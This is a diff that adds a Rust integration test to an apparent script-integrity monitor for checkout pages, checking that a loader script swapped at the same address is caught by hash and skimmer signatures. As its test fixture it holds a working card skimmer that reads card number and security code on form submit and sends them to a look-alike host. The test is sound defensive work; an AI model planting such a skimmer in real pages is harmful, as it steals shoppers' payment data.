@@ -676,6 +676,61 @@ async fn browser_mode_sees_scripts_inserted_at_run_time() {
     );
 }
 
+/// A script inserted at run time is fetched and hashed like one the HTML
+/// names, so a skimmer swapped in behind the same address (a compromised tag
+/// manager's payload, never named in the page) is found by its hash and the
+/// skimmer signatures although neither the HTML nor the inserting code changed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn browser_mode_finds_a_run_time_script_changed_at_the_same_address() {
+    let app = TestApp::new(crate::harness::Backend::Sqlite)
+        .await
+        .expect("sqlite");
+    let (tenant, _, _) = app.tenant_with_shop("Browser hash shop").await;
+    let html = "<!doctype html><html><head><script>var s = document.createElement('script'); \
+                s.src = '/js/loader.js'; document.head.appendChild(s);</script></head><body>\
+                <form action=\"/order/confirm\" method=\"post\"></form></body></html>"
+        .to_owned();
+    let (site, base) = serve_site(html.clone(), "window.shop = {currency: 'JPY'};\n").await;
+    // The tag-manager snippet is inline, so the page's policy must let it run.
+    site.set(html, "default-src 'self'; script-src 'self' 'unsafe-inline'");
+    let page = register(&app, &tenant, &format!("{base}/checkout"), "browser").await;
+    let id = page["id"].as_str().expect("id").to_owned();
+    let first = check(&app, &id).await;
+    let scripts = first["inventory"]["scripts"].as_array().expect("scripts").clone();
+    let inserted = scripts
+        .iter()
+        .find(|s| s["runtime"] == true)
+        .unwrap_or_else(|| panic!("no run-time script: {scripts:?}"));
+    assert_eq!(inserted["src"], format!("{base}/js/loader.js"));
+    assert_eq!(inserted["length"], 33, "{inserted}");
+    assert!(
+        inserted["sha384"]
+            .as_str()
+            .is_some_and(|h| h.starts_with("sha384-")),
+        "{inserted}"
+    );
+    authorise_all(&app, &id, &first).await;
+    assert!(kinds(&check(&app, &id).await).is_empty());
+
+    *site.loader.lock().expect("lock") = "document.addEventListener('submit', function () {\n\
+          var d = ['card_number', 'security_code'].map(function (n) { return document.getElementsByName(n)[0].value; });\n\
+          new Image().src = 'https://jquery-cdn-cloud.example/pixel.gif?d=' + btoa(d.join('|'));\n\
+        }, true);\n"
+        .to_owned();
+    let result = check(&app, &id).await;
+    let found = kinds(&result);
+    assert!(
+        found.contains(&("page_script_changed".to_owned(), "critical".to_owned())),
+        "{result}"
+    );
+    assert!(
+        result["findings"]
+            .to_string()
+            .contains("skimmer.card-exfiltration"),
+        "{result}"
+    );
+}
+
 /// Browser mode's SSRF guard: Chromium reaches the network only through the
 /// monitor's proxy, so a script the page pulls from a network that is not
 /// allowed never runs. The page (on 127.0.0.1) inserts a loader from
